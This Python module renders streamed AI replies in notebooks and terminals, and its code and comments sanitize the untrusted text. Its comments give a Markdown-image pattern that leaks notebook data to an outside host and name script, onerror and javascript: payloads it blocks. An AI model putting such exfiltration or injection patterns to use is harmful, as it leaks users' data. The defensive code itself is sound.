"""Throttled, in-place rendering of a streaming answer, and the one policy for showing it safely.

``ThrottledRenderer`` holds the timing logic once (like ``tqdm``'s ``mininterval``): the first chunk
is drawn at once, later ones are coalesced to one draw per ``interval``, a timer flushes text that
arrived after the last draw, and ``close`` always draws the complete text. Front ends only supply a
``draw(frame)`` callable: a display handle in a notebook, stdout in a terminal, a widget.

A reply is untrusted text (a prompt can carry a web page, a DataFrame or a traceback written by
someone else). Every front end shows it through ``render_markdown`` (HTML) and ``printable``
(plain text): Markdown is rendered here, with raw HTML off, so what reaches the page is HTML we
wrote, with links restricted to http(s), mailto and relative targets and images shown as links.
"""

from __future__ import annotations

import asyncio
import html
import re
import sys
import time
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Protocol

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from mdit_py_plugins.dollarmath import dollarmath_plugin

COST_FACTOR = 5.0
SIZE_STEP = 16_000


# -- the rendering policy ------------------------------------------------------------------------

# ANSI escape sequences (CSI, OSC, two-byte ESC forms), then any other C0/C1 control character
# except newline and tab: a terminal or JupyterLab's ANSI colouring would act on them.
_ANSI = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[@-Z\\-_]")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_SAFE_SCHEMES = ("http:", "https:", "mailto:")
LINK_REL = "noopener noreferrer nofollow"


def printable(text: str) -> str:
    """The text with ANSI escapes and control characters (all but newline and tab) removed."""
    return _CONTROL.sub("", _ANSI.sub("", text.replace("\r\n", "\n")))


def link_is_safe(url: str) -> bool:
    """Whether a link target may be live: http(s), mailto, or relative (a path, ``?query``, ``#anchor``).

    Everything else (``javascript:``, ``vbscript:``, ``data:``, ``file:``, unknown schemes) is
    refused, and the check reads the URL as a browser would: percent-escapes decoded, the
    whitespace and control characters a browser skips removed.
    """
    probe = re.sub(r"[\x00-\x20\x7f]", "", urllib.parse.unquote(url)).lower()
    head = re.split(r"[/?#]", probe, maxsplit=1)[0]
    return ":" not in head or probe.startswith(_SAFE_SCHEMES)


def _math(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    # Math stays literal text with its dollars, so the frontend's typesetter (MathJax in JupyterLab,
    # which typesets HTML outputs and widgets too) finds it; Markdown never touches its _ * and \\.
    token = tokens[idx]
    if token.type == "math_block":
        return f'<div class="math block">{escapeHtml("$$" + token.content.strip() + "$$")}</div>\n'
    fence = "$$" if token.type == "math_inline_double" else "$"
    return f'<span class="math inline">{escapeHtml(fence + token.content + fence)}</span>'


def _link_open(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    if re.match(r"(https?:)?//", token.attrGet("href") or "", re.IGNORECASE):
        token.attrSet("target", "_blank")
    token.attrSet("rel", LINK_REL)
    return self.renderToken(tokens, idx, options, env)


def _image_as_link(self: Any, tokens: list[Any], idx: int, options: Any, env: Any) -> str:
    # Loading an image is a request nobody clicked: ![](https://host/?q=<notebook data>) would send
    # data to that host as soon as the answer shows. So an image is a link, with its URL in sight.
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or "image"
    target = ' target="_blank"' if re.match(r"(https?:)?//", src, re.IGNORECASE) else ""
    return (
        f'<a href="{escapeHtml(src)}" rel="{LINK_REL}"{target}>image: {escapeHtml(alt)}</a>'
        f" <code>{escapeHtml(src)}</code>"
    )


def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False}).enable("table")  # raw HTML shows as text
    md.validateLink = link_is_safe  # type: ignore[method-assign]  # Markdown links, references, autolinks
    # No space just inside the dollars, so "$5 and $10" stays prose (a digit rule would be nicer, but
    # the plugin reads src[-1] for a "$" at the very start). Math is drawn as its own source text,
    # so a currency amount taken for math still shows exactly as written.
    dollarmath_plugin(md, allow_labels=False, allow_space=False, double_inline=True)
    for rule in ("math_inline", "math_inline_double", "math_block"):
        md.add_render_rule(rule, _math)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("image", _image_as_link)
    return md


_MARKDOWN = _markdown()


def render_markdown(text: str) -> str:
    """A reply as HTML that is safe to insert live: Markdown rendered, raw HTML shown as text.

    No tag or attribute in the output comes from the reply: ``<script>`` or ``<img onerror>``
    show as text, ``javascript:``/``data:`` links stay unlinked text, images become links, and
    ``$...$`` math is kept literally for the frontend's typesetter.
    """
    return _MARKDOWN.render(printable(text))


_TRAILING_CLOSE = re.compile(r"((?:\s*</[a-z0-9]+>)*\s*)\Z")


def with_cursor(body: str, cursor: str = " ▌") -> str:
    """Rendered HTML with a cursor after its last text, inside the last paragraph, item or code block.

    Added after rendering, so the cursor never becomes part of the Markdown (a half-streamed
    ``[ref]: `` would otherwise turn into a link to it).
    """
    return _TRAILING_CLOSE.sub(lambda match: cursor + match.group(1), body, count=1)


def note_html(note: str) -> str:
    """A short note (waiting, interrupted, partial...) as escaped HTML."""
    return f'<p class="acytoo-note"><em>{html.escape(printable(note))}</em></p>' if note else ""


def status_html(status: str) -> str:
    """The status line under an answer as escaped HTML."""
    return f'<p class="acytoo-status"><sub>{html.escape(printable(status))}</sub></p>' if status else ""


@dataclass(frozen=True)
class Frame:
    """What to show now: the answer so far, and a short note (waiting, interrupted, partial...)."""

    text: str
    note: str = ""
    final: bool = False
    waiting: bool = False
    status: str = ""


class TextBuffer:
    """Chunks joined only when the text is read: appending stays O(1), so many chunks stay linear."""

    __slots__ = ("_parts", "_text")

    def __init__(self) -> None:
        self._parts: list[str] = []
        self._text = ""

    def append(self, chunk: str) -> None:
        self._parts.append(chunk)

    @property
    def text(self) -> str:
        if self._parts:
            self._text += "".join(self._parts)
            self._parts.clear()
        return self._text


class Renderer(Protocol):
    def start(self, label: str) -> None: ...
    def notify(self, note: str) -> None: ...
    def feed(self, chunk: str) -> None: ...
    def close(self, text: str, note: str = "", status: str = "") -> None: ...


class ThrottledRenderer:
    """Coalesce updates in time so a reply's rendering cost grows with its length, not its chunk count."""

    def __init__(
        self,
        draw: Callable[[Frame], None],
        interval: float = 0.08,
        clock: Callable[[], float] = time.monotonic,
    ) -> None:
        self._draw = draw
        self.interval = max(0.0, float(interval))
        self._clock = clock
        self._last: float | None = None
        self._buffer = TextBuffer()
        self._has_text = False
        self._timer: asyncio.TimerHandle | None = None
        self._label = ""
        self._note = ""
        self._started = clock()
        self.draws = 0
        self.closed = False
        self._gap = self.interval
        self.last_frame: Frame | None = None

    def _emit(self, frame: Frame) -> None:
        self.draws += 1
        self.last_frame = frame
        started = self._clock()
        self._draw(frame)
        self._last = self._clock()
        # Each draw re-sends and re-renders the whole text, so its cost grows with the text. The
        # gap to the next draw grows with it: one interval per SIZE_STEP characters (the frontend's
        # re-render, which the kernel cannot time) and at least COST_FACTOR times what this draw
        # took here. Draws then thin out geometrically and a reply's total cost stays linear in
        # its length, however fast the chunks arrive.
        size_gap = self.interval * len(frame.text) / SIZE_STEP
        self._gap = max(self.interval, size_gap, COST_FACTOR * (self._last - started))

    def _schedule(self, delay: float, callback: Callable[[], None]) -> None:
        if self._timer is not None:
            return
        try:
            loop = asyncio.get_running_loop()
        except RuntimeError:
            return  # no loop: the next feed or close draws it

        def fire() -> None:
            self._timer = None
            callback()

        self._timer = loop.call_later(max(0.0, delay), fire)

    def _cancel_timer(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None

    def start(self, label: str) -> None:
        """Show that the provider is being contacted, with elapsed seconds, until the first chunk."""
        self._label = label
        self._started = self._clock()
        # Only after one interval: a fast answer never flashes the line (and saves a display message).
        self._schedule(self.interval, self._tick)

    def _tick(self) -> None:
        if self._has_text or self.closed:
            return
        elapsed = self._clock() - self._started
        note = f"{self._label} {elapsed:.1f} s" + (f" · {self._note}" if self._note else "")
        self._emit(Frame("", note=note, waiting=True))
        self._schedule(max(self.interval, 0.1), self._tick)

    def notify(self, note: str) -> None:
        """A status change before the first chunk (a retry, say); shown with the waiting line."""
        self._note = note
        if not self._has_text and not self.closed:
            self._cancel_timer()
            self._tick()

    def feed(self, chunk: str) -> None:
        """Add a chunk; it is drawn now if the last draw is old enough, else by a timer."""
        self._buffer.append(chunk)
        if not self._has_text:
            self._has_text = True
            self._cancel_timer()  # the waiting ticker ends with the first chunk
            self._emit(Frame(self._buffer.text))
            return
        elapsed = self._clock() - (self._last or 0.0)
        if elapsed >= self._gap:
            self._cancel_timer()
            self._emit(Frame(self._buffer.text))
        else:
            self._schedule(self._gap - elapsed, self._flush)

    def _flush(self) -> None:
        if self._has_text and not self.closed:
            self._emit(Frame(self._buffer.text))

    def close(self, text: str, note: str = "", status: str = "") -> None:
        """Draw the complete text, its interrupted/partial note and the status line; always draws."""
        self._cancel_timer()
        self.closed = True
        self._emit(Frame(text, note=note, final=True, status=status))


def markdown_bundle(frame: Frame, fmt: str = "markdown") -> dict[str, Any]:
    """A MIME bundle for a display update: the answer rendered to safe HTML, plain text as fallback.

    No ``text/markdown``: JupyterLab renders an executed cell's Markdown as trusted, raw HTML live.
    """
    if frame.waiting:
        return {"text/plain": printable(f"⏳ {frame.note}"), "text/html": note_html(f"⏳ {frame.note}")}
    text = printable(frame.text)
    plain = text + (f"\n[{printable(frame.note)}]" if frame.note else "")
    plain += f"\n— {printable(frame.status)}" if frame.status else ""
    if fmt == "text":
        return {"text/plain": plain}
    body = _MARKDOWN.render(text)
    if not frame.final:
        body = with_cursor(body)
    body += note_html(f"— {frame.note}" if frame.note else "")
    return {"text/plain": plain, "text/html": body + status_html(frame.status)}


class DisplayRenderer(ThrottledRenderer):
    """Renders into one notebook output area, created with ``display_id`` and updated in place."""

    def __init__(self, fmt: str = "markdown", interval: float = 0.08) -> None:
        from IPython.display import display

        self.fmt = fmt
        self._display = display
        self.handle: Any = None
        super().__init__(self._update, interval)

    def _update(self, frame: Frame) -> None:
        bundle = markdown_bundle(frame, self.fmt)
        if self.handle is None:  # the first frame creates the output area; later ones replace it
            self.handle = self._display(bundle, raw=True, display_id=True)
        else:
            self.handle.update(bundle, raw=True)


class TerminalRenderer(ThrottledRenderer):
    """Terminal IPython: print each new piece of text as it arrives (a terminal cannot redraw in place)."""

    def __init__(self, stream: Any = None) -> None:
        self.stream = stream or sys.stdout
        self._shown = 0
        super().__init__(self._write, interval=0.0)

    def _write(self, frame: Frame) -> None:
        if frame.waiting:
            return
        # Control characters go piece by piece: an escape sequence split across two writes loses its
        # ESC, so its rest shows as text and the terminal acts on nothing (colours, title, clipboard).
        self.stream.write(printable(frame.text[self._shown :]))
        self._shown = len(frame.text)
        if frame.final:
            self.stream.write(f"\n[{printable(frame.note)}]\n" if frame.note else "\n")
            if frame.status:
                self.stream.write(f"— {printable(frame.status)}\n")
        self.stream.flush()
